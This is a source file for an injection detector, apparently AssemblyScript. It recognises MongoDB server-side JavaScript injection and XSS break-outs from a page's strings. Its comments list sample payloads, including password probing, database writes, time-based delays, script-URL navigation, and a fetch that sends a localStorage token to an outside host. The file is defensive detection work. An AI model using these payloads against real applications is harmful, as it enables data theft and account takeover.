// Server-side JavaScript injected into a MongoDB query: the value lands inside a string of a
// $where clause, a mapReduce function or an eval, and MongoDB runs it. Three shapes name
// MongoDB's JavaScript and nothing else (SQL has no `this`, no `db.<collection>`, no Date loop):
//
//   ' && this.password.match(/^a/)//     the break-out quote, a JS connective, then the document (this.)
//   '; return true; var x='             a quote opening the value, ';', then return: the clause's verdict replaced
//   db.users.insert({x:1});              a collection method that writes or runs code, as a statement
//   ;x=new Date();do{}while(new Date()-x<5000)   a busy-wait on the clock (blind, time-based)
//
// The quote must be the value's first: 'a' && this.ok closes and opens a literal of the
// application's own code (a JavaScript snippet in prose), where an injection breaks out once.
import { g32, s32, report } from "./state";
import { wordIs } from "./keywords";
import { R_SQLI_NOSQL_JAVASCRIPT, R_XSS_JS_BREAKOUT } from "./generated/tables";

// Region st + ST_SSJS
// (J_THIS, J_DB, J_DATE first: one i64 and one i32 load tell that nothing is pending; J_LAST_END, J_PREV adjacent:
// a word's two stores are one)
const J_THIS: u32 = 0;     // the break-out shape: 1 first quote, 2 and '&' or '|' (half a connective), 3 a connective or ';',
                           // 4 and `this`; 6 ';' after a quote that opened the value (`return` next reports)
const J_DB: u32 = 4;       // db.<name>.<method>(: 1 db, 2 '.', 3 name, 4 '.', 5 a writing or running method
const J_DATE: u32 = 8;     // 1 new, 5 new Date, 2 new Date( (for the rest of the value), 3 and `while` after '}' or ';'
const J_QUOTES: u32 = 12;  // quotes (' or ") seen so far, saturating at 2
const J_THIS_START: u32 = 16;
const J_DB_START: u32 = 20;
const J_STMT: u32 = 24;    // end + 1 of the last ';' (a statement starts after it, or after one space); the value start counts as one
const J_DATE_START: u32 = 28;
const J_LAST_END: u32 = 32;
const J_PREV: u32 = 36;    // the last punctuation byte (not a space)
// (the break-out into a page's script: see jsbWord, jsbPunct)
const JB_MODE: u32 = 40;   // 0 idle; JB_Q..JB_SP a quote read, waiting for what leaves its string; JB_ARMED and up: left it
const JB_START: u32 = 44;  // the break-out's start (its quote, or the '$' of '${'): the report's span starts there
const JB_SINK: u32 = 48;   // a navigation or code sink's progress after the break-out (S_*)

/** Nothing pending: J_THIS, J_DB and J_DATE all zero. */
// @ts-ignore: decorator
@inline function idle(j: usize): bool { return (load<u64>(j, J_THIS) | <u64>load<u32>(j, J_DATE)) == 0; }

/** Collection methods that write, drop or run code (read methods are what questions about MongoDB quote). */
function writingMethod(w: usize, len: u32): bool {
  return wordIs(w, len, "insert") || wordIs(w, len, "insertone") || wordIs(w, len, "insertmany") || wordIs(w, len, "update") ||
    wordIs(w, len, "updateone") || wordIs(w, len, "updatemany") || wordIs(w, len, "remove") || wordIs(w, len, "deleteone") ||
    wordIs(w, len, "deletemany") || wordIs(w, len, "drop") || wordIs(w, len, "dropdatabase") || wordIs(w, len, "mapreduce") ||
    wordIs(w, len, "eval") || wordIs(w, len, "save");
}

/** (inlined in the lexer's dispatch: the common case makes no call) */
// @ts-ignore: decorator
@inline export function ssjsWord(st: usize, j: usize, word: usize, w0: u32, len: u32, start: u32, end: u32, ordinary: bool = false): void {
  if (g32(j, JB_MODE) != 0) jsbWord(st, j, word, len, start, end); // (before J_LAST_END and J_PREV move: it reads them)
  // (nothing pending, the common case: only `db` or `new` can start a shape; a shape added here goes into ssjsOrdinaryShape too)
  // (`ordinary`: scanner.ts's word of a shape ssjsOrdinaryShape passes)
  if (idle(j) && (ordinary || (!(len == 2 && w0 == 0x64) && !(len == 3 && w0 == 0x6e)))) {
    store<u64>(j, <u64>end, J_LAST_END); // (J_PREV 0)
  } else ssjsWordFull(st, j, word, w0, len, start, end);
}

/** For scanner.ts's ordinary words: is every word of `len` bytes (15: 15 or more) starting with `w0` no `db` or `new` shape? */
export function ssjsOrdinaryShape(w0: u32, len: u32): bool {
  return !(len == 2 && w0 == 0x64) && !(len == 3 && w0 == 0x6e);
}

function ssjsWordFull(st: usize, j: usize, word: usize, w0: u32, len: u32, start: u32, end: u32): void {
  const adjacent = g32(j, J_LAST_END) == start;
  s32(j, J_LAST_END, end);
  // ' && this
  const t = g32(j, J_THIS);
  const isReturn = len == 6 && wordIs(word, len, "return");
  if ((t == 3 || t == 6) && len == 4 && wordIs(word, len, "this")) s32(j, J_THIS, 4);
  else if (t == 6 && isReturn) { report(st, R_SQLI_NOSQL_JAVASCRIPT, g32(j, J_THIS_START), end); s32(j, J_THIS, 0); }
  else if (!(t == 3 && isReturn)) s32(j, J_THIS, 0);
  // db.name.method(
  const d = g32(j, J_DB);
  const stmt = g32(j, J_STMT);
  if (d == 0 && len == 2 && w0 == 0x64 && load<u8>(word + 1) == 0x62 && (start == 0 || (stmt != 0 && (stmt - 1 == start || stmt == start)))) {
    s32(j, J_DB, 1); s32(j, J_DB_START, start);
  }
  else if (d == 2 && adjacent) s32(j, J_DB, 3);
  else if (d == 4 && adjacent && len >= 4 && len <= 12 && writingMethod(word, len)) s32(j, J_DB, 5);
  else s32(j, J_DB, 0);
  // new Date ... while (
  const n = g32(j, J_DATE);
  if (n != 2 && len == 3 && wordIs(word, len, "new")) { s32(j, J_DATE, 1); s32(j, J_DATE_START, start); }
  else if (n == 1 && len == 4 && wordIs(word, len, "date")) s32(j, J_DATE, 5);
  else if (n == 2 && len == 5 && wordIs(word, len, "while") && (g32(j, J_PREV) == 0x7d || g32(j, J_PREV) == 0x3b)) s32(j, J_DATE, 3); // do{…}while  ;while
  else if (n != 2) s32(j, J_DATE, 0);
  s32(j, J_PREV, 0); // (while must follow '}' or ';' itself, not a word after one)
}

/** (inlined in the lexer's dispatch: the common case makes no call) */
// @ts-ignore: decorator
@inline export function ssjsPunct(st: usize, j: usize, c: u32, start: u32, end: u32): void {
  // (a quote, a backtick or the '{' of '${' may start a break-out; emitSpace's constant 0x20 folds these tests to the mode's)
  if (g32(j, JB_MODE) != 0 || c == 0x27 || c == 0x22 || c == 0x60 || c == 0x7b) jsbPunct(st, j, c, start, end);
  if (c == 0x20) return; // spaces separate the parts of every shape
  // (nothing pending and no quote or ';' to count: the common case)
  if (idle(j) && c != 0x27 && c != 0x22 && c != 0x3b) {
    s32(j, J_LAST_END, end); s32(j, J_PREV, c);
  } else ssjsPunctFull(st, j, c, start, end);
}

function ssjsPunctFull(st: usize, j: usize, c: u32, start: u32, end: u32): void {
  const adjacent = g32(j, J_LAST_END) == start;
  s32(j, J_LAST_END, end);
  // ' && this.
  const t = g32(j, J_THIS);
  if (c == 0x27 || c == 0x22) {
    const q = g32(j, J_QUOTES);
    s32(j, J_QUOTES, q < 2 ? q + 1 : 2);
    s32(j, J_THIS, q == 0 ? 1 : 0);
    if (q == 0) s32(j, J_THIS_START, start);
  } else if (t == 1 && (c == 0x26 || c == 0x7c)) s32(j, J_THIS, 2);
  else if (t == 2 && adjacent && (c == 0x26 || c == 0x7c)) s32(j, J_THIS, 3);
  else if (t == 1 && c == 0x3b) s32(j, J_THIS, g32(j, J_THIS_START) == 0 ? 6 : 3);
  else if (t == 4 && adjacent && c == 0x2e) { report(st, R_SQLI_NOSQL_JAVASCRIPT, g32(j, J_THIS_START), end); s32(j, J_THIS, 0); }
  else s32(j, J_THIS, 0);
  // db.name.method(
  const d = g32(j, J_DB);
  if ((d == 1 || d == 3) && adjacent && c == 0x2e) s32(j, J_DB, d + 1);
  else if (d == 5 && adjacent && c == 0x28) { report(st, R_SQLI_NOSQL_JAVASCRIPT, g32(j, J_DB_START), end); s32(j, J_DB, 0); }
  else s32(j, J_DB, 0);
  if (c == 0x3b) s32(j, J_STMT, end + 1);
  // new Date ... while (
  const n = g32(j, J_DATE);
  if (n == 3 && c == 0x28) { report(st, R_SQLI_NOSQL_JAVASCRIPT, g32(j, J_DATE_START), end); s32(j, J_DATE, 2); }
  else if (n == 3) s32(j, J_DATE, 2);
  else if (n == 5) s32(j, J_DATE, adjacent && c == 0x28 ? 2 : 0); // (the constructor called: "a new date while (...)" is English)
  else if (n == 1) s32(j, J_DATE, 0);
  s32(j, J_PREV, c);
}

// ---------------------------------------------------------------------------------------------------------------------
// The same break-out in a page's own script (the value lands in var q = '<v>'; or `Hi <v>`): once a quote or backtick
// has left its string, or a '${' opened a template's expression, the value's code runs in the page. xss.ts reports a
// name called or location assigned right after the operator that leaves the string (';f(  '-location=); this reads the
// rest of the value for the sinks that navigate to a script URL or load a module, in the spellings that step misses
// (each runs script named by window.name, which the attacker sets, or by the URL's fragment, which the server never sees):
//
//   ';import(name)//   '-import(name)-'   ${import(name)}          a module from a computed specifier (a name, an
//   ';import(''+name)//  ';import(`${name}`)//                      expression, a string added to or interpolated)
//   ';location = name//  ${location=name}  ';(location=name)//     location assigned, spaced or not, in any expression,
//   ';location['href']=name//  ';[location]=[name]//  x.location=   through an index, a destructuring or a member,
//   ';location/**/=name//                                           comments anywhere in it
//   ${location.assign(name)}  forEach(location.assign,location)    location's navigating methods, called or handed on
//   '+Object.assign(location,{href:name})+'                       location written by Object.assign or Reflect.set
//   '+Reflect.construct(Function,[name])()+'  Function.call(       a function built from a string, not called by name
//   '+fetch('//x/?'+localStorage.token)+'                          a stored secret read (localStorage. sessionStorage[)
//   ';with(location)href=name//  ${open(name,'_self')}           location as a with's scope, window.open called
//
// What leaves the string: the quote (or backtick), then optionally closers ) ] }, inline comments /**/, and an
// operator glued to it (; - + * % | & ^), or whitespace and ';'. A quote with a word or a space and a prose dash after
// it ("-5", it's, 'a' - b) leaves nothing. ? : , < > = ! glued to it, or the word in or instanceof after it, continue an
// expression too ('?import(name):'  ',location=name,'  ' in import(name)//), and so does a line break after it
// ('\nlocation=name\n': JavaScript inserts the ';'); but sentences write them after a quoted word as well ("Did he say
// 'yes'? Location = Paris", a quoted line and a line of prose after it), so these leave the string weakly: only the
// unspaced sinks count (location=x, import(x), not location = x) until a ';' or a '${' comes. A line break after a quote
// that is the value's first byte (it opens no quoted word there: '\nlocation = name\n') leaves it as ';' does.
// Once left, the value stays script to its end.
// The sinks need a shape prose has no use for: "Import (name) from file" and "location = Paris" hold no break-out before
// them; "location == x", "location.reload()", import('./mod.js') (a path: xss.ts reads a string's URL) and import.meta
// are no sink.

// JB_MODE before the break-out (a quote's wait)
const JB_Q: u32 = 1;       // a quote (or backtick) just read, or closers or a comment after it
const JB_SL: u32 = 2;      // and '/': a comment may open
const JB_CMT: u32 = 3;     // inside /* */
const JB_STAR: u32 = 4;    // and '*': '/' closes it
const JB_SP: u32 = 5;      // spaces after the quote: only ';' or a line break leaves the string now
const JB_NL: u32 = 6;      // a line break after the quote: ';' leaves it; anything else leaves it weakly (JB_WEAK)
const JB_NL_FIRST: u32 = 7; // the same after a quote that is the value's first byte: it can only close a string, so anything leaves it
const JB_ARMED: u32 = 8;   // the string left (to the value's end); the bits above it:
const JB_WEAK: u32 = 16;   // left weakly (a line break, ? : , < > = ! in instanceof): spaced sinks do not count
const JB_ASL: u32 = 32;    // a '/' just read: '*' opens a comment (the sink's progress kept), anything else divides
const JB_ACMT: u32 = 64;   // inside /* */ (the sink's progress kept)
const JB_ASTAR: u32 = 128; // and '*'

// JB_SINK (while armed)
const S_IMPORT: u32 = 1;      // import (not a member: x.import): waiting for '('
const S_IMPORT_P: u32 = 2;    // import(: a string may follow; anything else but ')' reports
const S_IMPORT_S0: u32 = 3;   // import(': a path ('.' '/') is the page's own module; an empty string or any other text is read on
const S_IMPORT_S: u32 = 4;    // import('x  inside the specifier (JB_QUOTE closes it)
const S_IMPORT_D: u32 = 5;    // import(`x$  '{' interpolates
const S_IMPORT_E: u32 = 6;    // import('x'  '+' adds to it (the module named by what is added)
const S_LOC: u32 = 7;         // location: waiting for = [ . or a closer ] } ) or a quote (window['location'])
const S_LOC_EQ: u32 = 8;      // location=: a second '=' or '>' glued is a comparison or an arrow; anything else assigns
const S_LOC_EQ_SP: u32 = 9;   // location = : anything after the spaces assigns
const S_LOC_DOT: u32 = 10;    // location.: assign or replace reports (called or handed on); another member waits for '='
const S_LOC_MEMBER: u32 = 11; // location.href: waiting for '='
const S_LOC_IDX: u32 = 12;    // location[: the index's words and strings, to its ']'
const S_LOC_IDX_END: u32 = 13; // location['href']: '=' assigns, '(' calls (location['assign'](x))
const S_LOC_CLOSE: u32 = 14;  // [location]  {location}  (location)  ['location']: waiting for '=' (or . [ as after location)
const S_ASSIGN: u32 = 15;     // assign set (Object.assign Reflect.set): waiting for '('
const S_ASSIGN_P: u32 = 16;   // assign(: location as the first argument reports
const S_CTOR: u32 = 17;       // construct apply (Reflect.construct Reflect.apply): waiting for '('
const S_CTOR_P: u32 = 18;     // construct(: Function as the first argument reports
const S_FUNC: u32 = 19;       // function: '.' or ')' glued (Function as a value; a ',' after it is prose's: "a function, which")
const S_FUNC_DOT: u32 = 20;   // function.: call apply bind report (Function.call(0, code))
const S_FUNC_CLOSE: u32 = 21; // (Function): '(' calls it
const S_STORE: u32 = 22;      // localStorage sessionStorage: '.' or '[' reads it
const S_WITH: u32 = 23;       // with: waiting for '(' glued
const S_WITH_P: u32 = 24;     // with(: location as the scope reports (with(location)href=name)
const S_OPEN: u32 = 25;       // open (not a member: xhr.open): '(' glued calls window.open (open(name,'_self') runs a
                              // javascript: URL in this window)
const S_IMPORT_PL: u32 = 26;  // import(s: a ')' glued is English's plural marker ("Import(s) and export(s)"); anything else reports
const S_IMPORT_PLD: u32 = 27; // import(s): a space after it (or the end) is the sentence's; code after it ('-import(s)-',
                              // import(s)//) reports
const S_FUNC_SP: u32 = 28;    // function and a space: the name a declaration gives (function open() { is no call)

const JB_QUOTE: u32 = 52;  // the quote of an import( specifier open (S_IMPORT_S0 .. S_IMPORT_D)

/** A sink found after the break-out: reported from the break-out's start. */
function jsbReport(st: usize, j: usize, end: u32): void {
  report(st, R_XSS_JS_BREAKOUT, g32(j, JB_START), end);
  s32(j, JB_SINK, 0);
}

function jsbWord(st: usize, j: usize, word: usize, len: u32, start: u32, end: u32): void {
  let mode = g32(j, JB_MODE);
  if (mode < JB_ARMED) { // a quote's wait: a word inside a comment keeps it; after a line break it leaves weakly; any other word ends it
    // (the operators in and instanceof after the quote leave it weakly, as ',' does: '' in import(name))
    if ((mode == JB_Q || mode == JB_SP) && (wordIs(word, len, "in") || wordIs(word, len, "instanceof"))) {
      s32(j, JB_MODE, JB_ARMED | JB_WEAK); s32(j, JB_SINK, 0); return;
    }
    if (mode != JB_NL && mode != JB_NL_FIRST) { s32(j, JB_MODE, mode == JB_CMT || mode == JB_STAR ? JB_CMT : 0); return; }
    mode = mode == JB_NL ? JB_ARMED | JB_WEAK : JB_ARMED; s32(j, JB_MODE, mode); s32(j, JB_SINK, 0);
  }
  if ((mode & JB_ACMT) != 0) { s32(j, JB_MODE, mode & ~JB_ASTAR); return; }
  if ((mode & JB_ASL) != 0) { s32(j, JB_MODE, mode & ~JB_ASL); jsbSink(st, j, 0x2f, start); } // (the '/' divided: a/b)
  const s = g32(j, JB_SINK);
  const dotted = g32(j, J_PREV) == 0x2e && g32(j, J_LAST_END) == start;
  let next: u32 = 0;
  if (s == S_LOC_DOT) {
    if (wordIs(word, len, "assign") || wordIs(word, len, "replace")) { jsbReport(st, j, end); return; }
    next = S_LOC_MEMBER;
  }
  else if (s == S_IMPORT_P && len == 1 && load<u8>(word) == 0x73) next = S_IMPORT_PL;
  else if (s == S_IMPORT_P || s == S_IMPORT_PL || s == S_LOC_EQ || s == S_LOC_EQ_SP) { jsbReport(st, j, end); return; } // import(name  location=name
  else if ((s == S_ASSIGN_P || s == S_WITH_P) && wordIs(word, len, "location")) { jsbReport(st, j, end); return; }
  else if (s == S_CTOR_P && wordIs(word, len, "function")) { jsbReport(st, j, end); return; }
  else if (s == S_FUNC_DOT && (wordIs(word, len, "call") || wordIs(word, len, "apply") || wordIs(word, len, "bind"))) { jsbReport(st, j, end); return; }
  else if (s == S_LOC_IDX || (s >= S_IMPORT_S0 && s <= S_IMPORT_D)) next = s == S_LOC_IDX ? s : S_IMPORT_S; // (text inside)
  else if (s == S_FUNC_SP) next = 0; // function open() {: a name declared, not called
  else if (wordIs(word, len, "location")) next = S_LOC;
  else if (wordIs(word, len, "import")) next = dotted ? 0 : S_IMPORT;
  else if (wordIs(word, len, "assign") || wordIs(word, len, "set")) next = S_ASSIGN;
  else if (wordIs(word, len, "construct") || wordIs(word, len, "apply")) next = S_CTOR;
  else if (wordIs(word, len, "function")) next = S_FUNC;
  else if (wordIs(word, len, "with")) next = S_WITH;
  else if (wordIs(word, len, "open")) next = dotted ? 0 : S_OPEN;
  else if (wordIs(word, len, "localstorage") || wordIs(word, len, "sessionstorage")) next = S_STORE;
  s32(j, JB_SINK, next);
}

function jsbPunct(st: usize, j: usize, c: u32, start: u32, end: u32): void {
  const mode = g32(j, JB_MODE);
  const quote = c == 0x27 || c == 0x22 || c == 0x60;
  const space = c == 0x20 || c == 0x0a;
  // ${ opens a template's expression: script from here (J_PREV and J_LAST_END still hold the byte before this one)
  // (after a weak break-out it makes a full one: ',`${location = name}`)
  if (c == 0x7b && g32(j, J_PREV) == 0x24 && g32(j, J_LAST_END) == start && (mode < JB_ARMED || (mode & (JB_WEAK | JB_ACMT)) == JB_WEAK)) {
    if (mode < JB_ARMED) { s32(j, JB_MODE, JB_ARMED); s32(j, JB_START, start - 1); s32(j, JB_SINK, 0); }
    else s32(j, JB_MODE, mode & ~JB_WEAK);
    return;
  }
  if (mode < JB_ARMED) {
    let m: u32 = 0;
    if (mode == JB_CMT) m = c == 0x2a ? JB_STAR : JB_CMT;
    else if (mode == JB_STAR) m = c == 0x2f ? JB_Q : c == 0x2a ? JB_STAR : JB_CMT;
    else if (quote) { m = JB_Q; s32(j, JB_START, start); }
    else if (mode == JB_SL) m = c == 0x2a ? JB_CMT : 0;
    else if (mode >= JB_NL && space) m = mode; // (JB_NL JB_NL_FIRST)
    else if (c == 0x0a) m = g32(j, JB_START) == 0 ? JB_NL_FIRST : JB_NL;
    else if (space) m = JB_SP;
    else if (c == 0x3b || (mode == JB_Q && (c == 0x2d || c == 0x2b || c == 0x2a || c == 0x25 || c == 0x7c || c == 0x26 || c == 0x5e))) {
      m = JB_ARMED; s32(j, JB_SINK, 0);
    }
    else if (mode == JB_Q && (c == 0x29 || c == 0x5d || c == 0x7d)) m = JB_Q; // ')}; '];
    // the other operators that continue an expression after a string ('' ? x : y, '' < x, '' == x, '' , x): sentences put
    // them after a quoted word too ('yes'? 'a', 'b'), so they leave the string weakly, as a line break does
    else if (mode == JB_Q && (c == 0x2c || c == 0x3f || c == 0x3a || c == 0x3c || c == 0x3e || c == 0x3d || c == 0x21)) {
      m = JB_ARMED | JB_WEAK; s32(j, JB_SINK, 0);
    }
    else if (mode == JB_Q && c == 0x2f) m = JB_SL;
    else if (mode >= JB_NL) { // '\n[location]=
      s32(j, JB_MODE, mode == JB_NL ? JB_ARMED | JB_WEAK : JB_ARMED); s32(j, JB_SINK, 0); jsbArmedPunct(st, j, c, start, end); return;
    }
    s32(j, JB_MODE, m);
    return;
  }
  jsbArmedPunct(st, j, c, start, end);
}

/** Punctuation after the break-out: comments skipped (the sink's progress kept through them), the rest to jsbSink. */
function jsbArmedPunct(st: usize, j: usize, c: u32, start: u32, end: u32): void {
  let mode = g32(j, JB_MODE);
  if ((mode & JB_ACMT) != 0) {
    if ((mode & JB_ASTAR) != 0 && c == 0x2f) mode &= ~(JB_ACMT | JB_ASTAR);
    else mode = c == 0x2a ? mode | JB_ASTAR : mode & ~JB_ASTAR;
    s32(j, JB_MODE, mode);
    return;
  }
  if ((mode & JB_ASL) != 0) {
    mode &= ~JB_ASL;
    if (c == 0x2a) { s32(j, JB_MODE, mode | JB_ACMT); return; }
    s32(j, JB_MODE, mode);
    jsbSink(st, j, 0x2f, start); // (the '/' divided, or began a // comment)
  }
  // (inside an import( specifier ';' and '/' are its text)
  const inSpecifier = g32(j, JB_SINK) >= S_IMPORT_S0 && g32(j, JB_SINK) <= S_IMPORT_D;
  if (c == 0x3b && !inSpecifier) s32(j, JB_MODE, mode & ~JB_WEAK); // a statement after the line break: spaced sinks count
  if (c == 0x2f && !inSpecifier) { s32(j, JB_MODE, mode | JB_ASL); return; }
  jsbSink(st, j, c, end);
}

/** A punctuation byte to the sink's progress (`end`: where a report ends). */
function jsbSink(st: usize, j: usize, c: u32, end: u32): void {
  const s = g32(j, JB_SINK);
  if (s == 0) return;
  const quote = c == 0x27 || c == 0x22 || c == 0x60;
  const space = c == 0x20 || c == 0x0a;
  const weak = (g32(j, JB_MODE) & JB_WEAK) != 0;
  let next: u32 = 0;
  if (s == S_IMPORT) next = space ? (weak ? 0 : s) : c == 0x28 ? S_IMPORT_P : 0;
  else if (s == S_IMPORT_P) {
    if (space) next = s;
    else if (quote) { next = S_IMPORT_S0; s32(j, JB_QUOTE, c); }
    else if (c != 0x29) { jsbReport(st, j, end); return; } // import((location+'')...  import(document.URL...
  }
  else if (s >= S_IMPORT_S0 && s <= S_IMPORT_D) {
    const q = g32(j, JB_QUOTE);
    if (s == S_IMPORT_D && c == 0x7b) { jsbReport(st, j, end); return; } // import(`${name}`)
    if (c == q) next = S_IMPORT_E;
    else if (s == S_IMPORT_S0 && (c == 0x2e || c == 0x2f)) next = 0; // import('./m.js')  import('/m.js')
    else next = q == 0x60 && c == 0x24 ? S_IMPORT_D : S_IMPORT_S;
  }
  else if (s == S_IMPORT_PL) {
    if (c != 0x29) { jsbReport(st, j, end); return; }
    next = S_IMPORT_PLD;
  }
  else if (s == S_IMPORT_PLD && !space) { jsbReport(st, j, end); return; }
  else if (s == S_IMPORT_E) {
    if (space) next = s;
    else if (c == 0x2b) { jsbReport(st, j, end); return; } // import(''+name)
  }
  else if (s == S_LOC || s == S_LOC_MEMBER || s == S_LOC_CLOSE || s == S_LOC_IDX_END) {
    if (space) next = weak ? 0 : s;
    else if (c == 0x3d) next = S_LOC_EQ;
    else if ((s == S_LOC || s == S_LOC_CLOSE) && c == 0x5b) next = S_LOC_IDX;
    else if ((s == S_LOC || s == S_LOC_CLOSE) && c == 0x2e) next = S_LOC_DOT;
    else if ((s == S_LOC || s == S_LOC_CLOSE) && (c == 0x5d || c == 0x7d || c == 0x29 || quote)) next = S_LOC_CLOSE;
    else if (s == S_LOC_IDX_END && c == 0x28) { jsbReport(st, j, end); return; }
  }
  else if (s == S_LOC_EQ) {
    if (space) next = weak ? 0 : S_LOC_EQ_SP;
    else if (c != 0x3d && c != 0x3e) { jsbReport(st, j, end); return; } // (== === => compare or define a function)
  }
  else if (s == S_LOC_EQ_SP) {
    if (space) next = s;
    else { jsbReport(st, j, end); return; } // location = 'jav'+'ascript:...'  location = (x)
  }
  else if (s == S_LOC_DOT) next = space ? s : 0;
  else if (s == S_LOC_IDX) next = c == 0x5d ? S_LOC_IDX_END : c == 0x3b ? 0 : s;
  else if (s == S_ASSIGN || s == S_CTOR) next = space ? s : c == 0x28 ? s + 1 : 0;
  else if (s == S_WITH) next = c == 0x28 ? S_WITH_P : 0; // (glued: "with (location) known" is prose's)
  else if (s == S_ASSIGN_P || s == S_CTOR_P || s == S_WITH_P) next = space ? s : 0;
  else if (s == S_OPEN && c == 0x28) { jsbReport(st, j, end); return; } // open(name,'_self')
  else if (s == S_FUNC || s == S_FUNC_SP) next = space ? S_FUNC_SP : s == S_FUNC_SP ? 0 : c == 0x2e ? S_FUNC_DOT : c == 0x29 ? S_FUNC_CLOSE : 0;
  else if (s == S_FUNC_CLOSE && c == 0x28) { jsbReport(st, j, end); return; } // (Function)(code)
  else if (s == S_STORE) {
    if (c == 0x2e || c == 0x5b) { jsbReport(st, j, end); return; } // localStorage.token  sessionStorage['k']
    next = space ? s : 0;
  }
  s32(j, JB_SINK, next);
}
